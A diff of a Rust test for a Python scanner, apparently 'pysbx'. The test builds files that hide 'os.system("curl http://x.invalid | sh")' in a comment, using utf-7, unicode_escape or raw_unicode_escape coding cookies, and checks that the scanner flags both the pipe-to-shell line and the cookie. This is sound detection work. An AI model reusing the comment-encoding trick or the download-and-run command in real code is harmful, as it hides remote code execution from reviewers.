@@ -121,24 +121,50 @@ fn coding_line_is_honoured() {
 }
 
 #[test]
-fn code_hidden_in_a_utf7_comment_is_found_where_python_runs_it() {
+fn code_hidden_in_an_encoded_comment_is_found_where_python_runs_it() {
     let dir = repo();
-    // In UTF-7 `+AAo-` is a newline: Python runs the "comment" as a second statement.
+    // Each of these text codecs turns an escape into a newline: Python runs the "comment" as
+    // a second statement.
+    for (name, label, newline, quote) in [
+        ("utf7.py", "utf-7", "+AAo-", "+ACI-"),
+        ("escape.py", "unicode_escape", "\\x0a", "\""),
+        ("raw.py", "raw_unicode_escape", "\\u000a", "\""),
+    ] {
+        let source = format!(
+            "# -*- coding: {label} -*-\nx = 1  # {newline}import os; os.system({quote}curl http://x.invalid | sh{quote})\n"
+        );
+        write(dir.path(), name, source.as_bytes());
+        let out = pysbx(dir.path()).args(["scan", "--format", "json", name]).output().unwrap();
+        assert_eq!(out.status.code(), Some(1), "{label}: {}", stderr(&out));
+        let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{label}: {doc}");
+        let findings = doc["findings"].as_array().unwrap();
+        assert!(
+            findings.iter().any(|f| f["name"] == "download-pipe-to-shell" && f["line"] == 3),
+            "{label}: {doc}"
+        );
+        // The cookie itself is reported: the file hides what it runs.
+        assert!(
+            findings.iter().any(|f| f["name"] == "code-hiding-encoding" && f["line"] == 1),
+            "{label}: {doc}"
+        );
+    }
+    // Ordinary cookies, and the codecs' names in prose or in longer names, are not.
     write(
         dir.path(),
-        "hidden.py",
-        b"# -*- coding: utf-7 -*-\nx = 1  # +AAo-import os+ADs- os.system(+ACI-curl http://x.invalid | sh+ACI-)\n"
-            .as_slice(),
+        "plain.py",
+        "# -*- coding: utf-8 -*-\n# decodes utf-7 and unicode_escape payloads (coding: utf7x)\nx = 1\n",
     );
-    let out = pysbx(dir.path()).args(["scan", "--format", "json", "hidden.py"]).output().unwrap();
-    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let out = pysbx(dir.path()).args(["scan", "--format", "json", "plain.py"]).output().unwrap();
     let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
-    assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
-    let findings = doc["findings"].as_array().unwrap();
-    assert!(
-        findings.iter().any(|f| f["name"] == "download-pipe-to-shell" && f["line"] == 3),
-        "{doc}"
-    );
+    let hits: Vec<_> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["name"] == "code-hiding-encoding")
+        .map(|f| f["line"].clone())
+        .collect();
+    assert!(hits.is_empty(), "{doc}");
 }
 
 #[test]
